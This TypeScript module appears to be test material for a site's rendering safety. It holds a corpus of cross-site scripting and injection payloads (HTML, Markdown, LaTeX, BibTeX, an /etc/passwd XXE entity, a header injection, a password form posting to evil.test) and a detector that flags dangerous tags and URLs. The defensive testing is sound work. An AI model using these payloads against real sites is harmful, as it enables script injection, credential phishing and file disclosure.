// Strings that run scripts, load things, or change the page where a site lets them: each has to end as text.
const js = "alert(1)";

/** Of Markdown, HTML, URLs, LaTeX, BibTeX and attributes; the page must show each and do nothing. */
export const corpus: readonly string[] = [
  `<script>${js}</script>`,
  `<ScRiPt>${js}</sCrIpT>`,
  `<script src=//evil.test/x.js></script>`,
  `<script/src=data:,${js}></script>`,
  `</title><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</script><script>${js}</script>`,
  `--><script>${js}</script>`,
  `]]><script>${js}</script>`,
  `"><script>${js}</script>`,
  `'><script>${js}</script>`,
  `<<script>${js}//<</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script\n>${js}</script\n>`,
  `<script\u0000>${js}</script>`,
  ...[
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe",
    "object data=x",
  ].flatMap((element) => [
    `<${element} onerror=${js}>`,
    `<${element} onload=${js} onfocus=${js} ontoggle=${js} onstart=${js}>`,
  ]),
  `<img src="x\` \`<script>${js}</script>"\` \`>`,
  `<img """><script>${js}</script>">`,
  `<img/src=x/onerror=${js}>`,
  `<img src=x onerror\u00a0=${js}>`,
  `<img src=javascript:${js}>`,
  `<img src=https://evil.test/pixel.png>`,
  `<image src=x onerror=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${js}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="javascript:${js}">`,
  `<form action="https://evil.test"><input name=password><button>Sign in</button></form>`,
  `<form action="javascript:${js}"><button>x</button></form>`,
  `<button formaction="javascript:${js}">x</button>`,
  `<input type=image src=x formaction=javascript:${js}>`,
  `<base href="https://evil.test/">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<link rel=import href="https://evil.test/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<style>@import "https://evil.test/x.css";</style>`,
  `<style>body{background:url(javascript:${js})}</style>`,
  `<div style="background:url(https://evil.test/x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9">x</div>`,
  `<p id="main" class="skip" style="x">x</p>`,
  `<a href="javascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href=" javascript:${js}">x</a>`,
  `<a href="java\tscript:${js}">x</a>`,
  `<a href="java&#10;script:${js}">x</a>`,
  `<a href="&#106;avascript:${js}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${js}</script>">x</a>`,
  `<a href="https://evil.test" target=_blank>x</a>`,
  `<a href=x onclick=${js}>x</a>`,
  `<a name="getElementById">x</a><img name=body>`,
  `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  `<plaintext>`,
  `<select><option><script>${js}</script></select>`,
  `<table background="javascript:${js}"><tr><td>x</table>`,
  `<isindex action=javascript:${js} type=submit>`,
  `<portal src="https://evil.test">`,
  `<dialog open onclose=${js}>x</dialog>`,
  `<x onpointerenter=${js} contenteditable tabindex=1 autofocus onfocusin=${js}>x</x>`,
  `<!--[if IE]><script>${js}</script><![endif]-->`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`,
  `<![CDATA[<script>${js}</script>]]>`,
  `[x](javascript:${js})`,
  `[x](JAVASCRIPT:${js})`,
  `[x](javascript&colon;${js})`,
  `[x](&#x6A;avascript:${js})`,
  `[x](java%0ascript:${js})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${js})`,
  `[x](<javascript:${js}>)`,
  `[x](x "onclick=${js}")`,
  `[x](x 'title" onmouseover="${js}')`,
  `[x]: javascript:${js}\n\n[x]`,
  `<javascript:${js}>`,
  `![x](javascript:${js})`,
  `![x](https://evil.test/pixel.png)`,
  `![x" onerror="${js}](x)`,
  `[//evil.test](//evil.test)`,
  `[x](/\\evil.test)`,
  `[@<script>${js}</script>]`,
  `[@"onmouseover=${js}]`,
  `\\cite{"><script>${js}</script>}`,
  `\\cite{javascript:${js}}`,
  `\`\`\`<script>${js}</script>\n<img src=x onerror=${js}>\n\`\`\``,
  `\`\`\`" onload="${js}\nx\n\`\`\``,
  `# <img src=x onerror=${js}>`,
  `| <script>${js}</script> | x |\n|---|---|\n| <img src=x onerror=${js}> | y |`,
  `[^1]\n\n[^1]: <img src=x onerror=${js}>`,
  `[^"><script>${js}</script>]: x`,
  `$\\href{javascript:${js}}{x}$`,
  `$\\url{javascript:${js}}$`,
  `$\\htmlData{x=y}{x}$`,
  `$\\htmlStyle{position:fixed}{x}$`,
  `$\\htmlClass{skip}{x}$`,
  `$\\htmlId{main}{x}$`,
  `$\\includegraphics{https://evil.test/x.png}$`,
  `$\\text{<script>${js}</script>}$`,
  `$\\unicode{<img src=x onerror=${js}>}$`,
  `$\\def\\x{\\x\\x}\\x$`,
  `$\\rule{99999em}{99999em}$`,
  `$<img src=x onerror=${js}>$`,
  `$$</annotation></semantics></math><script>${js}</script>$$`,
  `{\\"<}script{\\">}${js}`,
  `\\textless script\\textgreater ${js}`,
  `javascript:${js}`,
  `{{constructor.constructor('${js}')()}}`,
  `\${${js}}`,
  `\u202e<script>${js}</script>`,
  `\ud800<script>${js}</script>`,
  `＜script＞${js}＜/script＞`,
  `%3Cscript%3E${js}%3C/script%3E`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `&#60;script&#62;${js}&#60;/script&#62;`,
  `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  `x\r\nSet-Cookie: stolen=1\r\n\r\n<script>${js}</script>`,
];

const tag = /<([a-zA-Z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>/g;
const attribute = /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g;
const forbidden =
  /^(?:iframe|object|embed|base|style|template|noscript|xmp|plaintext|portal|marquee|applet|frame|frameset|isindex|dialog)$/;

/** What in a page could act on its own or lead the reader away unmarked; none for a page that is safe. */
export function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [whole, name = "", rest = ""] of html.matchAll(tag)) {
    const element = name.toLowerCase();
    const attributes = new Map(
      [...rest.matchAll(attribute)].map(([, key = "", a, b, c]) => [key.toLowerCase(), decoded(a ?? b ?? c ?? "")]),
    );
    const bad = (why: string) => found.push(`${why}: ${whole.slice(0, 200)}`);
    if (forbidden.test(element)) bad("element");
    if (
      element === "script" &&
      !/^\/assets\/[\w.-]+\.js$/.test(attributes.get("src") ?? "") &&
      attributes.get("type") !== "application/ld+json"
    )
      bad("script");
    if (element === "meta" && attributes.has("http-equiv")) bad("meta");
    if (element === "form" && !attributes.get("action")?.startsWith("/")) bad("form");
    for (const [key, value] of attributes) {
      if (/^on/.test(key)) bad("handler");
      if (key === "srcdoc" || key === "formaction") bad(key);
      if (/^(?:href|src|action|xlink:href|data|poster|background)$/.test(key)) {
        const url = URL.parse(value.trim(), "https://reprise.test/");
        if (url && !/^(?:https?|mailto):$/.test(url.protocol)) bad("address");
        if (key === "src" && url && url.origin !== "https://reprise.test") bad("foreign file");
        if (
          element === "a" &&
          url &&
          /^https?:$/.test(url.protocol) &&
          url.origin !== "https://reprise.test" &&
          !/noopener/.test(attributes.get("rel") ?? "")
        )
          bad("foreign link");
      }
    }
  }
  return found;
}

function decoded(value: string): string {
  const named: Record<string, string> = {
    amp: "&",
    lt: "<",
    gt: ">",
    quot: '"',
    apos: "'",
    colon: ":",
    Tab: "\t",
    NewLine: "\n",
  };
  return value
    .replace(/&#x([\da-f]+);?/gi, (_, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(/&#(\d+);?/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/&(\w+);/g, (all, name: string) => named[name] ?? all);
}
